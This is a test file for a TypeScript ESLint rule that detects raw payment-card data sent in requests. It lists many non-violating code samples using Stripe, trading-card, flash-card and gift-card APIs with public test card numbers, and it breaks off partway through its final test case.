import { RuleTester } from '@typescript-eslint/rule-tester';
import * as espree from 'espree';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import rule, { MESSAGE_IDS } from '../../src/rules/no-raw-card-data.js';
import { CARD_TOKEN_REQUEST, RENEWAL_SCRIPT, STUDY_SESSION, WORKER_REGISTRY } from './card-rule-fixtures.js';

const ruleTester = new RuleTester();
const inProject = (project: string, file: string): string => fileURLToPath(new URL(`../fixtures/projects/${project}/${file}`, import.meta.url));

/** An SDK's card-token helper with a processor's sandbox card (precision probe 305: mercadopago/sdk-nodejs). */
const SANDBOX_CARD_TOKEN = `export async function createCardToken(token: string) {
  const response = await fetch('https://api.mercadopago.com/v1/card_tokens', {
    method: 'POST',
    headers: { Authorization: 'Bearer ' + token, 'Content-Type': 'application/json' },
    body: JSON.stringify({
      site_id: 'MLB',
      card_number: '5031433215406351',
      expiration_year: '2099',
      expiration_month: '11',
      security_code: '123',
      cardholder: { identification: { type: 'CPF', number: '01234567890' }, name: 'APRO' },
    }),
  });
  return response.json();
}
`;
/** A monorepo app's hook posting the card with the workspace's own API client (real-world batch ES). */
const WORKSPACE_CLIENT_HOOK = `import { api } from '@shop/api-client';
import { useMutation } from '@tanstack/react-query';

export function usePay() {
  return useMutation({
    mutationFn: ({ cardNumber, cvv, expiry }: { cardNumber: string; cvv: string; expiry: string }) =>
      api.post('/payments', { cardNumber, cvv, expiry }),
  });
}
`;

ruleTester.run('no-raw-card-data', rule, {
  valid: [
    // A trading-card shop's admin adds a product (real-world batch 343): the card's collector number in its SKU and
    // body, in a file about Pokémon cards that spells no payment card's other data
    {
      code: `import { useState } from 'react';

export function NewProduct() {
  const [formData] = useState({ name: '', cardSet: '', cardNumber: '', rarity: '', price: '' });
  const submit = async () => {
    await fetch('/api/admin/products', {
      method: 'POST',
      body: JSON.stringify({ name: formData.name, sku: \`PKM-\${formData.cardSet}-\${formData.cardNumber}\`, card_number: formData.cardNumber }),
    });
  };
  return <button onClick={submit}>Add Pokémon card</button>;
}
`,
      filename: 'src/app/admin/products/new/page.tsx',
    },
    // A token of what a PaymentMethod shows (its id, brand, last4) in a URL, encoded or signed; another module's \`sign\`
    { code: `import jwt from 'jsonwebtoken';
import { sign } from './signing';

export function receiptLink(paymentMethod: { id: string; card: { brand: string; last4: string } }) {
  const token = jwt.sign({ paymentMethod: paymentMethod.id, brand: paymentMethod.card.brand, last4: paymentMethod.card.last4 }, process.env.RECEIPT_SECRET!);
  return \`/receipt?token=\${token}&summary=\${btoa(JSON.stringify({ last4: paymentMethod.card.last4 }))}\`;
}

export function localSigned(card: { cardNumber: string }) {
  window.location.href = '/next?sig=' + sign(card.cardNumber.slice(-4));
}
`, filename: 'src/lib/receipt.ts' },
    // limitation: an injected service whose class names no HTTP client (\`CartService\`), or one from a package, is no app client
    { code: `import { Component } from '@angular/core';
import { CartService } from 'src/app/services/cart.service';
import { ApiClient } from '@acme-sdk/api-client';

@Component({ selector: 'app-checkout', templateUrl: './checkout.page.html' })
export class CheckoutPage {
  cardNumber = '';
  cvc = '';

  constructor(private cart: CartService, private sdk: ApiClient) {}

  save() {
    this.cart.post('https://api.stripe.com/v1/tokens', { 'card[number]': this.cardNumber, 'card[cvc]': this.cvc });
    this.sdk.httpPost('https://api.stripe.com/v1/tokens', { 'card[number]': this.cardNumber, 'card[cvc]': this.cvc });
  }
}
`, filename: 'src/app/pages/checkout/checkout.page.ts' },
    // A French payroll app's \`ccn\` (Convention Collective Nationale, beside its \`idcc\`) put into a prompt: no card
    // number outside card context (real-world batch 330); nor a \`ccn\` sent with an expiry and no card field beside it
    {
      code: `module.exports = async function handler(req, res) {
  const { employeur, salarie, idcc, ccnNom, ccn } = req.body;
  const prompt = \`EMPLOYEUR : \${employeur.raisonSociale}, CCN \${ccnNom || ccn || '?'} IDCC \${idcc || '?'}\\nSALARIE : \${salarie.nom}\`;
  const resp = await fetch('https://api.anthropic.com/v1/messages', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'x-api-key': process.env.ANTHROPIC_API_KEY },
    body: JSON.stringify({ model: 'claude-haiku-4-5', max_tokens: 4000, ccn, messages: [{ role: 'user', content: prompt }] }),
  });
  return res.status(200).json(await resp.json());
};
`,
      filename: 'api/generate-contrat.js',
    },
    // An SDK's own mocks, which only its e2e tests import: test code (precision probe 305)
    { code: SANDBOX_CARD_TOKEN, filename: inProject('express-api', 'src/mocks/createCardToken.ts') },
    // Stripe Terminal's quickstart hands its simulated reader a test card: the number, beside the reader's id, to the
    // app's /simulate_payment, whose server calls testHelpers.terminal.readers.presentPaymentMethod (real-world batch 301)
    {
      code: `// Stripe Terminal quickstart (simulated reader): the page's "Test card numbers" field is sent to the
// app's /simulate_payment route, which calls stripe.testHelpers.terminal.readers.presentPaymentMethod.
let readerId;

function simulatePayment() {
  return fetch('/simulate_payment', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({
      reader_id: readerId,
      card_number: document.getElementById('card-number-input').value,
    }),
  }).then((response) => response.json());
}

document.getElementById('simulate-payment-button').addEventListener('click', () => simulatePayment());
`,
      filename: 'public/client.js',
    },
    // A foreign-worker registry's residence and discount cards (card-rule-fixtures.ts)
    { code: WORKER_REGISTRY, filename: 'src/workers/register.tsx' },
    {
      // A domain's DNS verification value is no CVC (precision probe 296: a SaaS starter adding a Vercel domain, its TXT
      // record's value posted and logged; the file names no card)
      code: `export async function addDomain(name, verificationData, verified) {
  let verificationValue = null;
  if (!verified) {
    const { value } = verificationData[0];
    verificationValue = value;
  }
  console.log({ verificationValue });
  await fetch('/api/workspace/domains', { method: 'POST', body: JSON.stringify({ name, type: 'TXT', value: verificationValue, verificationValue }) });
}
`,
      filename: 'src/services/domain.js',
    },
    {
      // The card object a `let` starts with is replaced on both branches of an `if` before the request: only a token
      // is sent (it was read as the value that may reach the request until the sixty-eighth session).
      code: `import axios from 'axios';
import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);

export async function pay(form, saved) {
  let card = { number: form.cardNumber, cvc: form.cvc };
  if (saved) {
    card = { token: saved.token };
  } else {
    card = { token: await tokenize(form) };
  }
  await axios.post('/api/pay', card);
  let params = { card: { number: form.cardNumber, cvc: form.cvc } };
  try {
    params = { source: await vault(form) };
  } catch {
    params = { source: form.fallbackToken };
  }
  return stripe.charges.create({ amount: 500, currency: 'usd', ...params });
}
`,
      filename: 'src/payments/pay.js',
    },
    {
      // limitation: a client a factory of the file returns in more than one `return` is not known (which one a call uses is not).
      code: `import axios from 'axios';
function client(sandbox: boolean) {
  if (sandbox) return axios.create({ baseURL: 'https://sandbox.example.com' });
  return axios.create({ baseURL: 'https://pay.example.com' });
}
export function charge(card: { number: string; cvc: string }) {
  return client(import.meta.env.DEV).post('/charges', { cardNumber: card.number, cvc: card.cvc });
}
`,
      filename: 'src/services/charge.ts',
    },
    // limitation: a bare `number` beside the card's expiry month and year, in a file that spells no card word nor
    // another card field's name, is not read (the file prefilter does not look for expiry names; real-world batch 258)
    {
      code: `export async function pay(name, number, brand, exp_month, exp_year) {
  await fetch('/api/pay', { method: 'POST', body: JSON.stringify({ name, number, brand, exp_month, exp_year }) });
}
`,
      filename: 'src/pay.js',
    },
    // A mail's carbon copy (`cc`) beside a code that is no CVC: no card number (a bare `cc` is one only beside a CVC)
    {
      code: `export function sendInvite(to, cc, code) {
  return fetch('/api/mail', { method: 'POST', body: JSON.stringify({ to, cc, bcc: [], subject: 'Your invite', code }) });
}
`,
      filename: 'src/invite.js',
    },
    // Precision probe, real-world batch 251: a form model named for another kind of card, posted whole; a kanban card's
    // record (its title beside the list or column it sits in); a reactive form's control that starts as a count.
    `
import { Component } from '@angular/core';
import { HttpClient } from '@angular/common/http';
import { FormBuilder, FormControl, FormGroup } from '@angular/forms';

@Component({ selector: 'app-redeem', templateUrl: './redeem.component.html' })
export class RedeemComponent {
  giftCard = { cardNumber: '', pin: '' };
  task = { cardNumber: '', title: '', description: '', column: '' };
  newCardForm = new FormGroup({ cardNumber: new FormControl(0), title: new FormControl('') });
  boardForm = this.fb.group({ cardNumber: [0, []], title: [''] });
  constructor(private http: HttpClient, private fb: FormBuilder) {}
  redeem() {
    this.http.post('/api/redeem', this.giftCard).subscribe();
  }
  save() {
    this.http.post('/api/tasks', this.task).subscribe();
    this.http.post('/api/cards', this.newCardForm.value).subscribe();
    this.http.post('/api/cards', this.boardForm.value).subscribe();
  }
  move(id: string, title: string, content: string, list: string) {
    const card = { cardNumber: id, title, content, list };
    return this.http.put('/cards/' + id, card);
  }
  mover(id: string, titulo: string, conteudo: string, lista: string) {
    const cartao = { cardNumber: id, titulo, conteudo, lista };
    return this.http.put('/cartoes/' + id, cartao);
  }
}
`,
    {
      // Inertia (real-world batch HD): a form without card fields, react-hook-form's useForm (not Inertia's), a router
      // visit that sends no card data, and (limitation) a form's post under another name
      code: `import { useForm as useInertiaForm, router } from '@inertiajs/react';
import { useForm } from 'react-hook-form';

export function Settings({ user }) {
  const profile = useInertiaForm({ name: user.name, email: user.email });
  const { register, handleSubmit } = useForm({ defaultValues: { cardNumber: '', cvc: '' } });
  const { post: send } = useInertiaForm({ card_number: '', cvc: '' });
  const save = () => profile.post('/profile');
  const search = (q) => router.get('/search', { q });
  const payLater = () => send('/pay');
  return { register, handleSubmit, save, search, payLater };
}
`,
      filename: 'resources/js/Pages/Settings.jsx',
    },
    {
      // A flash card's number and sides put on a queue (real-world batch FC: a precision probe of brokers)
      code: `const amqp = require('amqplib');

async function publishCard(card) {
  const conn = await amqp.connect('amqp://localhost');
  const ch = await conn.createChannel();
  const payload = { card: { number: card.number, front: card.front, back: card.back } };
  ch.sendToQueue('cards', Buffer.from(JSON.stringify(payload)));
}

module.exports = { publishCard };
`,
      filename: 'src/publisher.js',
    },
    {
      // A door-access badge's credential sent to the access-control server: its Wiegand site code beside the card
      // number (real-world batch 298)
      code: `import axios from 'axios';

export async function enrolBadge(data: { site_code: string; card_number: string; full_name: string }) {
  await axios.post('/api/access-passes', { fullName: data.full_name, siteCode: data.site_code, cardNumber: data.card_number });
}
`,
      filename: 'apps/web/src/lib/access-passes.ts',
    },
    {
      // A board's card moved (its number is the issue's) and a member's loyalty or gift card number, under keys that say
      // so (real-world batch EX: precision probe)
      code: `import axios from 'axios';
import { ClientProxy } from '@nestjs/microservices';

export async function moved(issue: { number: number; title: string }) {
  await axios.post('/api/board', { card: { number: issue.number, title: issue.title } });
}

export async function awardPoints(client: ClientProxy, member: { id: string; cardNumber: string }) {
  client.emit('loyalty_points', { memberId: member.id, loyaltyCardNumber: member.cardNumber });
  await axios.post('/api/gift-cards/balance', { giftCardNumber: member.cardNumber });
}
`,
      filename: 'src/board/events.ts',
    },
    // An import from a package that the file's package.json does not declare as the workspace's own is another
    // package's client, not read by its name
    { code: WORKSPACE_CLIENT_HOOK, filename: 'apps/web/src/checkout.tsx' },
    // A key that says its value is encrypted (real-world batch DM: a gateway's client-side encryption, the value's
    // misspelt name notwithstanding) carries no raw card data
    {
      code: `import axios from 'axios';
import { encrypt } from './cartpie';

export async function pay(order, card) {
  const encrypetedCardNo = encrypt(\`\${card.number}|\${card.cvv}|\${card.expiry}\`);
  await axios.post('/api/orders/pay', { orderId: order.id, cardInfo: { cartPieEncryptedData: encrypetedCardNo } });
}
`,
      filename: 'src/checkout/pay.js',
    },
    // A flash-card review posts the position of the card shown, a React state that starts as a count (real-world batch DG)
    {
      code: `import { useState } from 'react';
import axios from 'axios';

export function Review({ cards }) {
  const [position, setPosition] = useState(0);
  const grade = async (score) => {
    await axios.post('/api/reviews', { cardNumber: position, grade: score });
    setPosition((shown) => shown + 1);
  };
  return <button onClick={() => grade(5)}>{cards[position].front}</button>;
}
`,
      filename: 'src/study/Review.jsx',
      languageOptions: { parserOptions: { ecmaFeatures: { jsx: true } } },
    },
    // Values that are no customer's card (real-world batch 94): a shop's own transfer card read from the environment,
    // and a card game's card number in a text, with no CVC or expiry beside it
    `
import { Telegraf } from 'telegraf';

const bot = new Telegraf(process.env.BOT_TOKEN!);
const SHOP_CARD_NUMBER = process.env.SHOP_CARD_NUMBER;
bot.command('pay', (ctx) => ctx.reply(\`Transfer the amount to our card \${SHOP_CARD_NUMBER} and send us the receipt.\`));

export async function play(card: { number: number; suit: string }, gameId: string) {
  await fetch(\`/api/games/\${gameId}/moves\`, { method: 'POST', body: JSON.stringify({ move: \`played card \${card.number} of \${card.suit}\` }) });
}
`,
    // A quiz page e-mails which question card a visitor answered (real-world batch 90): a number without a CVC or an
    // expiry beside it is not known to be a payment card's
    `function sendResponse(cardNumber, answer) {
  emailjs.send('service_x', 'template_y', { card_number: cardNumber, response: answer, time: new Date().toISOString() });
}`,
    // limitation: a field a \`catch\` sets runs only on a throw: not read into the payload (a \`try\` block's are)
    `export async function createOrder(orderDetails) {
  const cardInfo = { cardHolderName: '', cardNumber: '' };
  try {
    cardInfo.cardHolderName = document.getElementById('cardHolderName').value;
  } catch (err) {
    cardInfo.cardNumber = document.getElementById('cardNumberFallback').value;
  }
  await fetch('/api/payment/create-order', { method: 'POST', body: JSON.stringify({ orderDetails, cardInfo }) });
}`,
    // limitation: a server action imported from another file sends its arguments to the server, but only that file
    // says it is one ('use server'): not reported (real-world batch 88)
    {
      code: `'use client';
import { saveCard } from './actions';

export function AddCard({ values }) {
  return <button onClick={() => saveCard(values.cardNumber, values.cvv)}>Save</button>;
}
`,
      filename: 'app/cards/add-card.tsx',
    },
    // `send` of anything but EmailJS is no request here: Express's `res.send`, a local `emailjs`, a socket
    `import express from 'express';
const app = express();
app.post('/echo', (req, res) => {
  const emailjs = { send: (...args) => args };
  emailjs.send('s', 't', { cardNumber: req.body.cardNumber });
  socket.send({ cardNumber: req.body.cardNumber });
  res.send({ cardNumber: req.body.cardNumber });
});`,
    // A gift card's number and PIN posted to the gift-card resource (real-world probe): no payment card.
    {
      code: `import axios from 'axios';

export async function redeemGiftCard(cardNumber: string, pin: string) {
  const { data } = await axios.post('/api/gift-cards/redeem', { cardNumber, pin });
  return data.balance;
}

export const checkBalance = (id: string, cardNumber: string, pin: string) =>
  fetch(\`\${import.meta.env.VITE_API}/giftcards/\${id}/balance\`, { method: 'POST', body: JSON.stringify({ cardNumber, pin }) });
`,
      filename: 'src/giftCards.ts',
    },
    // A property set after the payload was first used, or in a nested block, is not part of what was sent (as far as
    // the builder rule goes): the call sees only what was assigned before it.
    `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);
export async function pay(req) {
  const params = {};
  params.customer = req.user.stripeCustomerId;
  await stripe.tokens.create(params);
  params.card = { number: req.body.number, cvc: req.body.cvc };
  if (req.body.save) { params.payment_method_data = { card: { number: req.body.number } }; }
  saveDraft(params);
}
`,
    {
      // ids and tokens from Elements / Checkout
      code: `
import express from 'express';
import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);
const app = express();

app.post('/pay', async (req, res) => {
  const intent = await stripe.paymentIntents.create({
    amount: req.body.amount,
    currency: 'usd',
    payment_method: req.body.paymentMethodId,
    confirm: true,
  });
  await stripe.charges.create({ amount: 500, currency: 'usd', source: 'tok_visa' });
  await stripe.customers.create({ email: req.body.email, source: req.body.stripeToken });
  await stripe.tokens.create({ card: 'card_1NXYZ', customer: 'cus_123' }, { stripeAccount: 'acct_1' });
  await stripe.customers.createSource('cus_123', { source: req.body.token });
  res.json({ status: intent.status });
});
`,
    },
    {
      // `card: { token }` (PaymentMethodCreateParams.Card.token)
      code: `
import Stripe from 'stripe';
const stripe = new Stripe('sk_test_123');
export const fromToken = (token: string) => stripe.paymentMethods.create({ type: 'card', card: { token } });
`,
    },
    {
      // bank-account and PII tokens are not card data
      code: `
const stripe = require('stripe')(process.env.STRIPE_SECRET_KEY);
async function tokens(body) {
  await stripe.tokens.create({
    bank_account: { country: 'US', currency: 'usd', account_holder_name: body.name, account_number: body.accountNumber, routing_number: body.routingNumber },
  });
  await stripe.tokens.create({ pii: { id_number: body.ssn } });
  await stripe.tokens.create({ person: { first_name: body.first, id_number: body.idNumber } });
  await stripe.customers.create({ source: { object: 'bank_account', account_number: body.accountNumber, routing_number: body.routingNumber, country: 'US' } });
}
`,
    },
    {
      // expiry-only updates
      code: `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
export async function updateExpiry(pmId: string, customerId: string, cardId: string, month: number, year: number) {
  await stripe.paymentMethods.update(pmId, { card: { exp_month: month, exp_year: year } });
  await stripe.customers.updateSource(customerId, cardId, { exp_month: month, exp_year: year, name: 'Jenny Rosen' });
  await stripe.customers.update(customerId, { card: { exp_month: month, exp_year: year } });
}
`,
    },
    {
      // Issuing card creation (and reading an issued card) is not sending card data
      code: `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
export async function issue(cardholder: string) {
  const card = await stripe.issuing.cards.create({ cardholder, currency: 'usd', type: 'virtual' });
  return stripe.issuing.cards.retrieve(card.id, { expand: ['number', 'cvc'] });
}
`,
    },
    {
      // limitation: AngularJS's $http injected under another name (array annotation) is not known
      code: `
angular.module('shop').controller('CheckoutCtrl', ['$scope', '$http', function (scope, http) {
  scope.pay = function () {
    return http.post('/api/checkout', { cardNumber: scope.cardNumber, cvv: scope.cvv });
  };
}]);
`,
      filename: 'public/js/checkout.js',
    },
    {
      // limitation: a client the class sets in two places (sandbox and live) is not known at a call that uses the field
      code: `
import axios from 'axios';

export class GatewayClient {
  constructor(baseURL) {
    this.http = axios.create({ baseURL });
  }

  useSandbox() {
    this.http = axios.create({ baseURL: 'https://sandbox.gateway.example' });
  }

  charge(card) {
    return this.http.post('/charge', { card_number: card.number, cvv: card.cvv, amount: card.amount });
  }
}
`,
      filename: 'lib/gateway-client.js',
    },
    {
      // limitation: a parameter typed with a DTO from another file, a generic or a union says nothing; a DTO declared here
      // whose members are not card data (a token) neither
      code: `
import Stripe from 'stripe';
import { CardDto } from './dto/card.dto';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
class TokenCard { token: string; }
class Wrapper<T> { card: T; }
export async function save(imported: CardDto, partial: Partial<TokenCard>, token: TokenCard, wrapped: Wrapper<CardDto>) {
  await stripe.paymentMethods.create({ type: 'card', card: imported });
  await stripe.paymentMethods.create({ type: 'card', card: partial });
  await stripe.tokens.create({ card: token });
  await stripe.paymentMethods.create({ type: 'card', card: wrapped.card });
}
`,
    },
    {
      // Requests elsewhere that carry no card data: a PaymentMethod id with brand and last4, a BIN lookup, an order, a
      // form state without card fields
      code: `import { useState } from 'react';
import axios from 'axios';

export function Checkout({ amount, paymentMethod }) {
  const [card, setCard] = useState({ number: '', cvc: '' });
  const [shipping, setShipping] = useState({ name: '', line1: '', postalCode: '', phoneNumber: '' });
  async function submit() {
    await fetch('/api/orders', { method: 'POST', body: JSON.stringify({ amount, paymentMethodId: paymentMethod.id, last4: card.number.slice(-4) }) });
    await axios.get('https://lookup.binlist.net/' + card.number.slice(0, 6));
    await axios.post('/api/orders', { amount, shipping, ...shipping });
  }
  return submit;
}
`,
      filename: 'src/Checkout.jsx',
    },
    // limitation: a platform SDK's HTTP client (Medusa's JS SDK) and a Stripe call through a computed dispatcher are not
    // read (real-world batches 238 and 241)
    {
      code: `import Medusa from '@medusajs/js-sdk';
import Stripe from 'stripe';

export const sdk = new Medusa({ baseUrl: process.env.MEDUSA_BACKEND_URL });
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);

export async function payWithCard(cartId, cardNumber, cvc) {
  await sdk.client.fetch(\`/store/carts/\${cartId}/card\`, { method: 'POST', body: { card_number: cardNumber, cvc } });
}
export function stripeCall(object, action, params) {
  return stripe[object][action](params);
}
export const tokenise = (number, cvc) => stripeCall('tokens', 'create', { card: { number, cvc } });
`,
      filename: 'src/lib/payments.js',
    },
    {
      // GraphQL mutations without card data: a PaymentMethod id from Stripe's native UI and the card's last four
      code: `import { gql, useMutation } from '@apollo/client';

const ATTACH = gql\`mutation Attach($paymentMethodId: ID!, $last4: String!) { attach(paymentMethodId: $paymentMethodId, last4: $last4) { id } }\`;

export function useAttachCard() {
  const [attach] = useMutation(ATTACH);
  return (paymentMethod) => attach({ variables: { paymentMethodId: paymentMethod.id, last4: paymentMethod.card.last4 } });
}
`,
      filename: 'src/hooks/useAttachCard.js',
    },
    {
      // A trading-card collection app posts collector numbers: the record's other keys (rarity, set code, condition)
      // say it is no payment card (real-world batch AH)
      code: `import axios from 'axios';
import { useState } from 'react';

export function AddToCollection({ userId }) {
  const [entry, setEntry] = useState({ name: '', cardNumber: '', setCode: '', rarity: 'common' });
  return async () => {
    await axios.post('/api/collection', entry);
    await axios.post('/api/collection', { card: { name: entry.name, number: entry.cardNumber, rarity: entry.rarity }, userId });
    await axios.post('/api/collection/bulk', { card_number: entry.cardNumber, set_code: entry.setCode, condition: 'NM' });
  };
}
`,
      filename: 'src/AddToCollection.jsx',
    },
    // A flash-card app's study session (card-rule-fixtures.ts): its card number is a position, not a PAN
    { code: STUDY_SESSION, filename: 'src/StudySession.jsx' },
    {
      // limitation: a form state made from something other than an object written in the file (props, a reducer, a
      // helper) has no keys to read
      code: `import { useReducer, useState } from 'react';
import axios from 'axios';
import { emptyCard } from './cards';

export function Checkout({ initialCard }) {
  const [card] = useState(initialCard);
  const [other] = useState(emptyCard());
  const [reduced] = useReducer(reducer, { number: '', cvc: '' });
  return () => Promise.all([axios.post('/api/charge', { card }), axios.post('/api/charge', other), axios.post('/api/charge', reduced)]);
}
`,
      filename: 'src/Checkout.jsx',
    },
    {
      // limitation: a submit handler that is also handed somewhere else has no keys to read (its inputs are
      // no-raw-card-inputs' to report); nor does a form that registers only names it computes
      code: `import { useForm } from 'react-hook-form';

export function CardForm({ onDone, fields }) {
  const { register, handleSubmit } = useForm();
  const { handleSubmit: submitSaved } = useForm({ defaultValues: { cardNumber: '', cvc: '' } });
  const onSubmit = (data) => fetch('/api/cards', { method: 'POST', body: JSON.stringify(data) });
  const onSaved = (data) => fetch('/api/cards/saved', { method: 'POST', body: JSON.stringify(data) });
  onDone(onSaved);
  return (
    <>
      <form onSubmit={handleSubmit(onSubmit)}>
        {fields.map((field) => <input key={field} {...register(field)} />)}
      </form>
      <form onSubmit={submitSaved(onSaved)} />
    </>
  );
}
`,
      filename: 'src/CardForm.jsx',
    },
    {
      // A test posts a card to the app's own endpoint (the endpoint's code is where card data arrives)
      code: `import request from 'supertest';
import app from '../app';

it('charges', async () => {
  await fetch('http://localhost:3000/charge', { method: 'POST', body: JSON.stringify({ cardNumber: '4242424242424242', cvc: '123' }) });
});
`,
      filename: 'test/charge.test.js',
    },
    {
      // limitation: a card object that is a parameter or request field cannot be proven card-shaped (where the method
      // takes other things too: a PaymentMethod's \`card\` may be \`{ token }\`), nor a request body handed whole
      code: `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
export async function save(card: unknown, req: { body: any }) {
  await stripe.paymentMethods.create({ type: 'card', card } as Stripe.PaymentMethodCreateParams);
  await stripe.tokens.create(req.body);
  await stripe.paymentMethods.create({ type: 'card', card: req.body.card });
  await stripe.paymentMethods.create({ type: 'card', card: { ...req.body.card } });
}
`,
    },
    {
      // An in-memory test double of the Stripe SDK (real-world batch CA): its tests hand it test cards; nothing is sent.
      code: `import { StripeMock } from '../src';

let stripe: StripeMock;

beforeEach(() => {
  stripe = new StripeMock();
});

it('declines the generic-decline test card', async () => {
  const pm = await stripe.paymentMethods.create({
    type: 'card',
    card: { number: '4000000000000002', exp_month: 12, exp_year: 2030, cvc: '123' },
  });
  await expect(stripe.paymentIntents.create({ amount: 1000, currency: 'usd', payment_method: pm.id, confirm: true })).rejects.toThrow();
});
`,
      filename: 'tests/paymentIntents.test.ts',
    },
    {
      // limitation: a helper's parameter holds only what its calls in this file pass: a helper exported and called
      // from another file, or handed on as a callback (\`forms.map(send)\`), is not followed to its callers.
      code: `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
export async function tokenize(card: Record<string, string>) {
  return stripe.paymentMethods.create({ type: 'card', card });
}
function send(details: Record<string, string>) {
  return fetch('/api/cards', { method: 'POST', body: JSON.stringify(details) });
}
export const sendAll = (forms: Record<string, string>[]) => forms.map(send);
`,
    },
    {
      // limitation: a helper's result is followed only into the objects it returns as written in this file
      code: `
import Stripe from 'stripe';
import { cardData } from './card-data';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
const viaHelper = (b: any) => cardData(b);
export const attach = (b: any) => stripe.setupIntents.update('seti_1', { payment_method_data: viaHelper(b) });
export const attachAgain = (b: any) => stripe.setupIntents.update('seti_1', { payment_method_data: cardData(b) });
`,
    },
    {
      // limitation: getters are not evaluated
      code: `
import Stripe from 'stripe';
const stripe = new Stripe('sk_test_1');
stripe.tokens.create({ card: { get number() { return readNumber(); }, exp_month: 1, exp_year: 2030 } });
`,
    },
    {
      // limitation: a Stripe client in another file behind a name without "stripe" is not resolved
      code: `
import { payments } from './clients';
export const tokenize = (n: string, c: string) => payments.tokens.create({ card: { number: n, cvc: c, exp_month: 1, exp_year: 2030 } });
`,
    },
    {
      // not a Stripe client: an object of the file with a similar API
      code: `
// stripe-compatible mocks are configured elsewhere
const api = { tokens: { create: (p: object) => p } };
api.tokens.create({ card: { number: '4242424242424242' } });
`,
    },
    {
      // limitation: testHelpers.terminal.readers.presentPaymentMethod runs in test mode only and is not reported
      code: `
import Stripe from 'stripe';
const stripe = new Stripe('sk_test_123');
await stripe.testHelpers.terminal.readers.presentPaymentMethod('tmr_1', { card_present: { number: '4242424242424242' } });
`,
    },
    {
      // Stripe.js v3 with Elements; createToken(element, { name }) is the documented form (stripe-facts §0.3)
      code: `
import { CardElement, useElements, useStripe } from '@stripe/react-stripe-js';
export function CheckoutForm({ clientSecret }: { clientSecret: string }) {
  const stripe = useStripe();
  const elements = useElements();
  async function onSubmit() {
    const card = elements!.getElement(CardElement)!;
    await stripe!.createPaymentMethod({ type: 'card', card, billing_details: { name: 'Jenny' } });
    await stripe!.createToken(card, { name: 'Jenny Rosen', address_zip: '94107' });
    await stripe!.confirmCardPayment(clientSecret, { payment_method: { card, billing_details: { name: 'Jenny' } } });
    await stripe!.createToken('pii', { personal_id_number: '000000000' });
    await stripe!.createToken('bank_account', { country: 'US', currency: 'usd', routing_number: '110000000', account_number: '000123456789' });
  }
  return <button onClick={onSubmit}>Pay</button>;
}
`,
      filename: 'CheckoutForm.tsx',
    },
    {
      // react-stripe-elements: this.props.stripe.createToken({ name }) is Element-backed
      code: `
class CardSection extends React.Component {
  async submit() {
    const { token } = await this.props.stripe.createToken({ name: this.state.name });
    return token;
  }
}
`,
    },
    {
      // limitation: Stripe.js v1/v2 globals are reported by no-stripe-js-v2, not here
      code: `
Stripe.setPublishableKey('pk_test_123');
Stripe.card.createToken({ number: $('.card-number').val(), cvc: $('.card-cvc').val(), exp_month: 1, exp_year: 2030 }, handler);
`,
    },
    {
      // raw HTTP to Stripe: endpoints that take no card (other hosts and look-alikes are another message, invalid below)
      code: `
import axios from 'axios';
export async function other() {
  await axios.post('https://api.stripe.com/v1/refunds', new URLSearchParams({ charge: 'ch_1', 'metadata[card_number_hint]': '4242' }));
  await axios.post('https://api.stripe.com/v1/payment_methods', new URLSearchParams({ type: 'card', 'card[token]': 'tok_visa' }));
}
`,
    },
    {
      // limitation: multipart .field() is not followed, nor an XMLHttpRequest the code did not make here (a parameter)
      code: `
import superagent from 'superagent';
export function tokenize(xhr, number, cvc) {
  xhr.open('POST', 'https://api.stripe.com/v1/tokens');
  xhr.send('card[number]=' + number + '&card[cvc]=' + cvc);
  superagent.post('https://api.stripe.com/v1/tokens').field('card[number]', number).field('card[cvc]', cvc);
}
`,
    },
    {
      // limitation: the object-bound customer.cards.create is not followed (NestJS's HttpService is: invalid below; query strings: 'query strings' below)
      code: `
import Stripe from 'stripe';
const stripe = new Stripe('sk_test_1');
export class Cards {
  async add(customerId: string, number: string, cvc: string) {
    const customer: any = await stripe.customers.retrieve(customerId);
    await customer.cards.create({ card: { number, cvc, exp_month: 1, exp_year: 2030 } });
  }
}
`,
    },
    {
      // allowTestCards: documented test numbers are skipped
      code: `
import Stripe from 'stripe';
const stripe = new Stripe('sk_test_123');
await stripe.paymentMethods.create({ type: 'card', card: { number: '4242 4242 4242 4242', exp_month: 12, exp_year: 2034, cvc: '314' } });
await stripe.tokens.create({ card: { number: 5555555555554444, exp_month: 12, exp_year: 2034, cvc: 123 } });
`,
      options: [{ allowTestCards: true }],
    },
    {
      // files that never mention Stripe are skipped
      code: `
import { gateway } from './pay';
gateway.tokens.create({ card: { number: body.cardNumber, cvc: body.cvc } });
`,
    },
    {
      // crash safety: computed keys, optional chains, spreads of unknowns, decorators, TS-only syntax
      code: `
import Stripe from 'stripe';
import { Injectable } from '@nestjs/common';
declare const method: 'create';
const stripe = new Stripe('sk_test_1');
stripe.tokens[method]({ card: cardFrom(req) });
stripe?.tokens?.create?.({ ...params, [dynamicKey]: value });
stripe.tokens.create(...args);
stripe.paymentMethods.create({ type: 'card', card: { [field]: value, ...rest } });
@Injectable()
export class Payments<T extends object> {
  constructor(private readonly stripe: Stripe) {}
  enum = 1;
  create = async (p: T) => this.stripe.tokens.create(<Stripe.TokenCreateParams>p);
}
namespace Legacy { export const token = stripe.tokens.create({ card: 'card_1' }); }
type Card = { number: string };
stripe.tokens.create({ card: { number: undefined, cvc: null } });
`,
    },
    {
      // crash safety: huge literals
      code: `
import Stripe from 'stripe';
const stripe = new Stripe('sk_test_1');
stripe.tokens.create({ card: 'card_${'1'.repeat(20_000)}' });
